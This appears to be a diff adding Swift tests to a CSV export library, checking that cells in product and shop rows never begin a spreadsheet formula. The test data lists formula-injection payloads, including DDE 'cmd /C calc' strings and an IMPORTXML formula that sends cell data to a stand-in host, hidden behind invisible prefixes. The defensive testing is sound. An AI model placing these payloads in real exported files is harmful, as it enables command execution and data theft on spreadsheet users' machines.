@@ -114,14 +114,77 @@ struct CSVTests {
         #expect(record.textOrNil().map { Array($0.utf8) } == Array(text.utf8))
     }
 
+    @Test("No cell of products and shops begins a formula, and all are read back byte for byte")
+    func formulaRows() throws {
+        #expect(Self.formulas.count >= 100)
+        let products = Self.formulas.enumerated().map { index, text in
+            ArchivedProduct(
+                Product(
+                    id: ProductID(rawValue: Int64(index + 1)),
+                    websiteID: WebsiteID(rawValue: 1),
+                    url: Sample.url("https://shop.example/\(index)"),
+                    selection: Selection(text: text),
+                    name: text,
+                    nextCheckAt: ManualClock.start,
+                    createdAt: ManualClock.start
+                )
+            )
+        }
+        let websites = Self.formulas.enumerated().map { index, text in
+            Website(id: WebsiteID(rawValue: Int64(index + 1)), host: "shop\(index).example", name: text)
+        }
+        try expectHarmless(products, texts: [2, 3, 4]) { [Array($0.name.utf8), Array($0.selection.text.utf8)] }
+        try expectHarmless(websites, texts: [1, 2]) { [Array($0.name.utf8)] }
+    }
+
+    /// Demands that none of some columns begins a formula in any row, and that rows are read back with the same bytes.
+    private func expectHarmless<Row: ArchivedRow>(
+        _ rows: [Row],
+        texts columns: [Int],
+        _ bytes: (Row) -> [[UInt8]]
+    ) throws {
+        var encoder = PartEncoder(Row.table, plan: ArchivePlan())
+        for row in rows { _ = encoder.add(row) }
+        let part = encoder.finish(isFirst: true)
+        let text = try #require(part).text
+        var reader = CSVReader(text)
+        _ = try reader.next()
+        var count = 0
+        while let record = try reader.next() {
+            count += 1
+            for column in columns {
+                let cell = String(decoding: record.cells[column].bytes, as: UTF8.self).unicodeScalars
+                let seen = cell.first { !Self.isBlank($0) }
+                #expect(seen.map(Self.openers.contains) != true, "line \(record.line)")
+                #expect(cell.first.map { "\t\r\n".unicodeScalars.contains($0) } != true, "line \(record.line)")
+            }
+        }
+        #expect(count == rows.count)
+        let found = try PartDecoder.rows(of: text, as: Row.self).map(bytes)
+        let expected = rows.map(bytes)
+        #expect(found == expected)
+    }
+
+    private static let openers = Array("=+-@|＝＋－＠﹦﹢﹣﹫−".unicodeScalars)
+
+    /// What programs skip before they look whether a cell is a formula.
+    private static func isBlank(_ scalar: Unicode.Scalar) -> Bool {
+        scalar.properties.isWhitespace || [.control, .format].contains(scalar.properties.generalCategory)
+    }
+
+    /// What a spreadsheet would run, behind what it does not see.
     static let formulas: [String] = {
         let plain = [
-            "=1+1", "+1", "-1", "@SUM(A1)", "|calc", "=cmd|' /C calc'!A0",
-            "=HYPERLINK(\"http://x.example\",\"y\")",
+            "=1+1", "+1", "-1", "@SUM(A1)", "|calc", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\",\"y\")",
+            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")",
         ]
-        let beginnings = ["", "\t", "\r", "\n", " ", "\u{A0}", "\u{FEFF}", "\u{200B} "]
+        let beginnings = ["", "\t", "\r", "\n", " ", "\u{A0}", "\u{3000}", "\u{FEFF}", "\u{200B} "]
         let hidden = plain.flatMap { text in beginnings.map { $0 + text } }
-        return hidden + ["'quoted", "\t'quoted", "＝1", "＋1", "－1", "＠x", "−1", "\u{0}=1", "\t", "\r\n=1,2"]
+        return hidden + [
+            "'quoted", "\t'quoted", "'=1", "''", "＝1", "＋1", "－1", "＠x", "−1", "﹦1", "﹢1", "﹣1", "﹫x", " ＝1", "\u{0}=1",
+            "\t", "\r\n=1,2", "\u{1}\u{2}+1", "\u{7F}@x", "\u{85}=1", "\u{2028}=1", "\u{AD}=1", "\u{202E}=1",
+        ]
     }()
 
     @Test(
